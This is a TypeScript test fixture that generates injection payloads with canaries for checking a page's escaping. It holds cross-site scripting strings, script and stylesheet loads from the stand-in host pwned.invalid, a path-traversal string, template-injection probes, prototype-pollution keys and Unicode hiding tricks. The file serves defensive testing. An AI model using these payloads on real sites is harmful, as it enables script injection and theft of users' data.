/** Text that tries to make a page run code, made from lists of templates, each with a canary in
 * it. */

/** Set if any of it ran. */
export const canary = 'window.__pwned=1';

const hosts = ['//pwned.invalid/x', 'https://pwned.invalid/x'];

const escapes = ['', '">', "'>", '</title>', '</textarea>', '</script>', '-->', ']]>', '`}'];

const elements = [
  `<img src=x onerror=${canary}>`,
  `<script>${canary}</script>`,
  `<script src=${hosts[0]!}></script>`,
  `<svg onload=${canary}>`,
  `<svg><script>${canary}</script></svg>`,
  `<svg><animate onbegin=${canary} attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=pwned onload=${canary}>"/></svg>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>" pwned></iframe>`,
  `<iframe src="javascript:parent.__pwned=1">`,
  `<object data="${hosts[1]!}" pwned></object>`,
  `<embed src="${hosts[1]!}" pwned>`,
  `<link rel=stylesheet href=${hosts[0]!}>`,
  `<style pwned>@import url(${hosts[0]!});*{background:url(${hosts[0]!})}</style>`,
  `<base href="${hosts[1]!}">`,
  `<meta http-equiv=refresh content="0;url=${hosts[1]!}">`,
  `<form action="${hosts[1]!}" pwned><button>x</button></form>`,
  `<a href="javascript:${canary}" pwned>x</a>`,
  `<video src=x onerror=${canary} pwned></video>`,
  `<details open ontoggle=${canary} pwned>`,
  `<math><mtext></mtext><style><img src=x onerror=${canary}></style></math>`,
  `<template pwned><b onclick=${canary}></template>`,
];

const handlers = [
  ...[
    'abort',
    'animationend',
    'animationstart',
    'auxclick',
    'beforeinput',
    'beforetoggle',
    'blur',
    'change',
  ],
  ...[
    'click',
    'contextmenu',
    'copy',
    'cut',
    'dblclick',
    'drag',
    'drop',
    'error',
    'focus',
    'focusin',
    'input',
  ],
  ...[
    'keydown',
    'keyup',
    'load',
    'mousedown',
    'mousemove',
    'mouseover',
    'paste',
    'pointerdown',
    'pointerenter',
  ],
  ...[
    'pointermove',
    'resize',
    'scroll',
    'scrollend',
    'select',
    'submit',
    'toggle',
    'touchstart',
    'transitionend',
  ],
  ...['transitionrun', 'wheel'],
];

const addresses = [
  `javascript:${canary}`,
  `JaVaScRiPt:${canary}`,
  `java\tscript:${canary}`,
  `\u0001javascript:${canary}`,
  `javascript://%0a${canary}`,
  `data:text/html,<script>${canary}</script>`,
  `vbscript:${canary}`,
  `blob:${canary}`,
  `view-source:${hosts[1]!}`,
  hosts[0]!,
  '\\\\pwned.invalid\\x',
  '../../../etc/passwd',
  '#/again/z/AAAA',
];

const templates = [
  `{@html '<b pwned>x</b>'}`,
  `{#if 1}<b pwned>x</b>{/if}`,
  `{{constructor.constructor('${canary}')()}}`,
  `\${${canary}}`,
  `#{${canary}}`,
  `<%= ${canary} %>`,
  `[[${canary}]]`,
  `{0} {1} {2}`,
  `{1?a|b}`,
  `{{0}}`,
  '{',
  '}',
  '%s %n %x %99999d',
  `'-(${canary})-'`,
  `";${canary};//`,
  `\`;${canary};\``,
  `</style><b pwned>`,
  `x" pwned="1" onmouseover="${canary}`,
  `x' pwned='1' style='background:url(${hosts[0]!})`,
  '__proto__',
  'constructor',
  'toString',
  'null',
  '[object Object]',
  '-0',
  'NaN',
];

const entities = [
  `&lt;img src=x onerror=${canary}&gt;`,
  `&#60;b pwned&#62;x`,
  `&#x3c;b pwned&#x3e;x`,
  `&#0000060b pwned&#0000062x`,
  '&amp;lt;b pwned&amp;gt;',
  '\\u003cb pwned\\u003e',
  '\\x3cb pwned\\x3e',
  '%3Cb%20pwned%3E',
  '+ADw-b pwned+AD4-',
  '\uff1cb pwned\uff1e',
  '&NewLine;&Tab;<b pwned>',
  '<<b pwned>>x<</b>/b>',
  '<b/pwned/>x',
  '<b\fpwned>x',
  '<b\u0000 pwned>x',
  '<!--><b pwned>-->',
  '<![CDATA[<b pwned>]]>',
  '<?xml-stylesheet href="//pwned.invalid/x"?>',
];

const hiding = [
  ...['\u202e', '\u202d', '\u2066', '\u2067', '\u2068', '\u200f', '\u061c'],
  ...['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u180e', '\u034f', '\u3164'],
  ...['\u2028', '\u2029', '\u0085', '\u0007', '\u001b[31m', '\u{e0041}', '\ufe0f', '\ufff9'],
].map((one) => `ann${one}<b pwned>evil${one}`);

const odd = [
  'Z' + '\u0300'.repeat(200),
  '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}'.repeat(8),
  '<b pwned>'.repeat(2000),
  'x'.repeat(20_000),
  '\u05e9\u05dc\u05d5\u05dd <b pwned>',
  '\ufdfd'.repeat(40),
];

/** A lone surrogate: text in UTF-8 cannot contain it. */
const broken = [
  '\ud800',
  '\udfff',
  'a\ud83d',
  '\ude00b',
  '\ud800<b pwned>\udc00',
  '<b pwned>\udbff',
];

/** As the engine's JSON can contain it: no lone surrogates and no NUL characters. */
export const sayable = (text: string): string => text.replace(/[\p{Cs}\0]/gu, '');

/** As shown: the browser collapses whitespace, and hidden characters have been removed. */
export function folded(text: string): string {
  return text
    .replace(/[\p{Cc}\p{Cf}\p{Cs}\s\u034f\u180b-\u180f\u3164\ufe00-\ufe0f\ufff0-\ufffd]/gu, '')
    .replace(/\p{M}/gu, '');
}

export const payloads = [
  ...elements.flatMap((element) => escapes.map((escape) => escape + element)),
  ...handlers.map((handler) => `<b pwned tabindex=0 autofocus on${handler}=${canary}>x</b>`),
  ...addresses,
  ...templates,
  ...entities,
  ...hiding,
  ...odd,
  ...broken,
];

/** All payloads if everything is to be tried, otherwise one of every kind. */
export const tried =
  process.env.CANASTA_FULL === '1'
    ? payloads
    : [
        ...[elements[0]!, escapes[1]! + elements[3]!, elements[16]!],
        ...[
          `<b pwned tabindex=0 autofocus onfocus=${canary}>x</b>`,
          addresses[0]!,
          templates[0]!,
          templates[7]!,
        ],
        ...[entities[1]!, hiding[0]!, hiding[7]!, odd[2]!, broken[4]!],
      ];
